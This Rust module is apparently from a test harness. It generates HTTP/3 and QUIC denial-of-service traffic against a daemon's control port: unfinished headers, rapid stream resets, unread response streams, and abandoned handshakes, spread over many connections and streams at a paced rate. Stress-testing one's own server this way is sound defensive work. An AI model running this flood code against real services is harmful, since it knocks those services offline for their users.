//! Attackers who speak HTTP/3 (RFC 9114) to the control port, or only begin to.

mod initials;

use std::{io, net::SocketAddr, sync::Arc, time::Duration};

use quinn::{
    ClientConfig, Connection, Endpoint, TransportConfig, VarInt, crypto::rustls::QuicClientConfig,
};
use tokio::{
    task::JoinSet,
    time::{Instant, interval, timeout, timeout_at},
};

use super::{
    connections::{Pace, TURN, block_on, source, tls, together},
    grpc,
    target::{Offered, Target},
};

/// Connections of an attacker.
const CONNECTIONS: u32 = 32;

/// Streams that one connection leaves open: as many as the daemon lets it.
const MOST_OPEN: usize = 4_000;

/// How long one waits for leave to open a stream, before one tries again in the next turn.
const LEAVE: Duration = Duration::from_millis(1);

/// H3_REQUEST_CANCELLED.
const CANCELLED: VarInt = VarInt::from_u32(0x10c);

/// What they do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Way {
    /// Streams with the beginning of a head, that are left as they are.
    SlowHeads,
    /// Requests that are reset at once.
    Resets,
    /// Calls with a good credential, half of them of streams, whose answers are given no credit.
    UnreadByCaller,
    /// First packets of handshakes that do not go on, from many addresses.
    Initials,
}

impl Way {
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::SlowHeads => "HTTP/3: heads that do not end",
            Self::Resets => "HTTP/3: rapid reset",
            Self::UnreadByCaller => "HTTP/3: unread, a caller",
            Self::Initials => "QUIC: unfinished handshakes",
        }
    }
}

/// Attacks from one source for as long; see [`initials`] for those that are no connections.
pub(super) fn run(way: Way, target: &Target, rate: u32, time: Duration) -> io::Result<Offered> {
    let tls = QuicClientConfig::try_from(tls(&target.ca_pem, b"h3")?).map_err(io::Error::other)?;
    let mut config = ClientConfig::new(Arc::new(tls));
    if way == Way::Initials {
        return block_on(initials::run(config, target.control, rate, time));
    }
    let mut transport = TransportConfig::default();
    if way == Way::UnreadByCaller {
        transport.stream_receive_window(VarInt::from_u32(1));
    }
    config.transport_config(Arc::new(transport));
    block_on(async {
        let end = Instant::now() + time;
        let endpoint = Endpoint::client(SocketAddr::new(source(1).into(), 0))?;
        let mut attackers = JoinSet::new();
        for _ in 0..CONNECTIONS {
            let (endpoint, config, to) = (endpoint.clone(), config.clone(), target.control);
            let bearer = target.bearer.clone();
            attackers.spawn(async move {
                let mut offered = Offered::default();
                while Instant::now() < end {
                    let attack = attack(way, &endpoint, &config, to, &bearer, rate, &mut offered);
                    // Whatever ends it, there is another one.
                    drop(timeout_at(end, attack).await);
                    tokio::time::sleep(TURN).await;
                }
                offered
            });
        }
        let all = together(attackers).await;
        endpoint.close(VarInt::from_u32(0), b"");
        all
    })
}

/// One connection, until it is ended.
async fn attack(
    way: Way,
    endpoint: &Endpoint,
    config: &ClientConfig,
    to: SocketAddr,
    bearer: &str,
    rate: u32,
    offered: &mut Offered,
) -> io::Result<()> {
    let name = to.ip().to_string();
    let connecting = endpoint.connect_with(config.clone(), to, &name);
    let connection = connecting.map_err(io::Error::other)?.await?;
    // The client's control stream, with settings of nothing (RFC 9114, section 6.2.1).
    let mut control = connection.open_uni().await?;
    control
        .write_all(&[0, 4, 0])
        .await
        .map_err(io::Error::other)?;
    let mut pace = Pace::new(f64::from(rate) / f64::from(CONNECTIONS));
    let mut turn = interval(TURN);
    let mut held = Vec::new();
    loop {
        turn.tick().await;
        for number in 0..pace.due() {
            if held.len() >= MOST_OPEN {
                break;
            }
            let Ok(streams) = timeout(LEAVE, connection.open_bi()).await else {
                break;
            };
            let (mut out, inbound) = streams?;
            let bytes = request(way, number.is_multiple_of(2), bearer);
            out.write_all(&bytes).await.map_err(io::Error::other)?;
            offered.count += 1;
            offered.bytes += bytes.len() as u64;
            match way {
                Way::Resets => drop(out.reset(CANCELLED)),
                Way::UnreadByCaller => drop(out.finish()),
                Way::SlowHeads | Way::Initials => {}
            }
            if way != Way::Resets {
                held.push((out, inbound));
            }
        }
        alive(&connection)?;
    }
}

fn alive(connection: &Connection) -> io::Result<()> {
    match connection.close_reason() {
        Some(why) => Err(why.into()),
        None => Ok(()),
    }
}

/// What is sent on one stream.
fn request(way: Way, even: bool, bearer: &str) -> Vec<u8> {
    match way {
        Way::UnreadByCaller => {
            let path = if even { grpc::WATCH } else { grpc::STATUS };
            let mut request = grpc::http3_head(path, Some(bearer));
            // DATA, with a message of nothing.
            request.extend([0, 5]);
            request.extend(grpc::NOTHING);
            request
        }
        Way::Resets => grpc::http3_head(grpc::STATUS, None),
        Way::SlowHeads | Way::Initials => {
            let mut head = grpc::http3_head(grpc::STATUS, None);
            head.truncate(16);
            head
        }
    }
}
